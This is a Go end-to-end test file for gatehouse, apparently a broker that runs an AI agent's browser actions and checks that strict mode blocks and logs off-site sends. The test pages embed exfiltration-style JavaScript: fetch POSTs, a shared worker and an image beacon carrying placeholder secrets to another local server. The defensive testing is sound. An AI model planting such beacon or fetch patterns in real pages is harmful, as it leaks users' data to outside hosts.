package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/broker"
)

// TestBrowserThroughServe drives Chromium through `gatehouse serve` from
// the CLI: the agent opens a page and reads it, clicks a button whose
// script posts to another site, one that starts a shared worker posting
// there, and one that loads an image from there with data in its query,
// and strict mode keeps all three from leaving, each on record; the journal
// verifies.
func TestBrowserThroughServe(t *testing.T) {
	var received atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		received.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer other.Close()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/shared.js" {
			// A shared worker's requests are never routed: the proxy
			// inside serve decides them.
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `onconnect = e => { const port = e.ports[0];
  fetch('%s/shared',{method:'POST',mode:'no-cors',body:'secret-shared-data'}).then(() => port.postMessage('answered'), () => port.postMessage('answered')); };`, other.URL)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><h1 id="t">Invoices</h1>
<button id="b" onclick="fetch('%s/collect',{method:'POST',mode:'no-cors',body:'secret-form-data'}).then(()=>document.getElementById('t').textContent='sent')">go</button>
<button id="w" onclick="const w = new SharedWorker('/shared.js'); w.port.onmessage = e => document.getElementById('t').textContent = e.data">worker</button>
<button id="q" onclick="new Image().src = '%s/pixel.gif?d=secret-query-data'">pixel</button>`, other.URL, other.URL)
	}))
	defer site.Close()

	data := t.TempDir()
	s := serve(t, data, "--mode", "strict")
	run := strings.TrimSpace(gh(t, "work", "open", "--data-dir", data, "--tenant", "acme", "--person", "ada").stdout)
	act := func(action, params string) broker.EffectReply {
		t.Helper()
		r := gh(t, "effect", "browser", "--data-dir", data, "--run", run, "--action", action, "--params", params, "--json", "--timeout", "60s")
		var reply broker.EffectReply
		if err := json.Unmarshal([]byte(r.stdout), &reply); err != nil || r.code != 0 {
			t.Fatalf("%s: exit %d %v\n%s%s", action, r.code, err, r.stdout, r.stderr)
		}
		return reply
	}
	act("goto", `{"url":"`+site.URL+`/"}`)
	if r := act("text", `{"selector":"#t"}`); !strings.Contains(string(r.Result), "Invoices") {
		t.Fatalf("text: %s", r.Result)
	}
	act("click", `{"selector":"#b"}`)
	act("text", `{"selector":"#t"}`) // give the page's fetch time to be decided
	act("click", `{"selector":"#w"}`)
	for i := 0; !strings.Contains(string(act("text", `{"selector":"#t"}`).Result), "answered"); i++ {
		if i == 100 {
			t.Fatal("the shared worker's send was never answered")
		}
		time.Sleep(100 * time.Millisecond)
	}
	// A read of the other site carrying data in its query: refused too, and
	// on record by the time the click returns.
	act("click", `{"selector":"#q"}`)
	if n := received.Load(); n != 0 {
		t.Fatalf("the other site received %d requests in strict mode", n)
	}
	if r := gh(t, "work", "close", "--data-dir", data, run); r.code != 0 {
		t.Fatalf("work close: %s", r.stderr)
	}
	s.stop(t)
	v := gh(t, "verify", "--json", filepath.Join(data, "journal"))
	if v.code != 0 || !strings.Contains(v.stdout, `"ok":true`) {
		t.Fatalf("verify: %s", v.stdout)
	}
	b := readRun(t, data, run)
	if strings.Count(b, `"refusal":"browser-send-off-site"`) < 2 || !strings.Contains(b, `"refusal":"browser-query-off-site"`) ||
		strings.Contains(b, "secret-form-data") || strings.Contains(b, "secret-shared-data") || strings.Contains(b, "secret-query-data") {
		t.Fatalf("the refused send is not on record, or its body is:\n%s", b)
	}
}

// TestBrowserHTTPSThroughServe: through `gatehouse serve` in strict mode
// with no rule, a page on one HTTPS site runs a script from another HTTPS
// site (a CDN), its POST to that site never leaves, and a screenshot of it
// is stored in the artifact store, where the agent reads it back through
// the artifact sink with the digest the screenshot's reply gave. serve
// verifies the sites against SSL_CERT_FILE (the test sites' certificate).
func TestBrowserHTTPSThroughServe(t *testing.T) {
	var posts atomic.Int32
	cdn := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.Method == http.MethodPost {
			posts.Add(1)
			return
		}
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `document.getElementById('t').textContent = 'from the cdn';`)
	}))
	defer cdn.Close()
	site := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><h1 id="t">not loaded</h1><script src="%s/lib.js"></script>
<button id="b" onclick="fetch('%s/collect',{method:'POST',mode:'no-cors',body:'secret-https-data'})">go</button>`, cdn.URL, cdn.URL)
	}))
	defer site.Close()
	certFile := filepath.Join(t.TempDir(), "sites.pem")
	if err := os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: site.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("SSL_CERT_FILE", certFile)

	data := t.TempDir()
	s := serve(t, data, "--mode", "strict")
	run := strings.TrimSpace(gh(t, "work", "open", "--data-dir", data, "--tenant", "acme", "--person", "ada").stdout)
	act := func(sink, action, params string) broker.EffectReply {
		t.Helper()
		r := gh(t, "effect", sink, "--data-dir", data, "--run", run, "--action", action, "--params", params, "--json", "--timeout", "60s")
		var reply broker.EffectReply
		if err := json.Unmarshal([]byte(r.stdout), &reply); err != nil || r.code != 0 {
			t.Fatalf("%s %s: exit %d %v\n%s%s", sink, action, r.code, err, r.stdout, r.stderr)
		}
		return reply
	}
	act("browser", "goto", `{"url":"`+site.URL+`/"}`)
	for i := 0; !strings.Contains(string(act("browser", "text", `{"selector":"#t"}`).Result), "from the cdn"); i++ {
		if i == 100 {
			t.Fatal("the CDN's script never ran: strict mode refused the page's own subresource")
		}
		time.Sleep(100 * time.Millisecond)
	}
	act("browser", "click", `{"selector":"#b"}`)
	act("browser", "text", `{"selector":"#t"}`) // give the page's fetch time to be decided

	var shot struct {
		Artifact struct{ Key, Digest string }
	}
	if err := json.Unmarshal(act("browser", "screenshot", `{}`).Result, &shot); err != nil || shot.Artifact.Key == "" {
		t.Fatalf("screenshot: %v", err)
	}
	var got struct {
		Content []byte
		Digest  string
	}
	if err := json.Unmarshal(act("artifact", "get", `{"key":"`+shot.Artifact.Key+`"}`).Result, &got); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(got.Content)
	if d := "sha256:" + hex.EncodeToString(sum[:]); d != shot.Artifact.Digest || got.Digest != d || !strings.HasPrefix(string(got.Content), "\x89PNG") {
		t.Fatalf("the stored screenshot has digest %s, the screenshot's reply said %s", d, shot.Artifact.Digest)
	}
	if n := posts.Load(); n != 0 {
		t.Fatalf("the other HTTPS site received %d POSTs in strict mode", n)
	}
	if r := gh(t, "work", "close", "--data-dir", data, run); r.code != 0 {
		t.Fatalf("work close: %s", r.stderr)
	}
	s.stop(t)
	v := gh(t, "verify", "--json", filepath.Join(data, "journal"))
	if v.code != 0 || !strings.Contains(v.stdout, `"ok":true`) {
		t.Fatalf("verify: %s", v.stdout)
	}
	b := readRun(t, data, run)
	if !strings.Contains(b, `"refusal":"browser-send-off-site"`) || !strings.Contains(b, `"sink":"artifact"`) || strings.Contains(b, "secret-https-data") {
		t.Fatalf("the refused send or the screenshot's publish is not on record, or the body is:\n%s", b)
	}
}
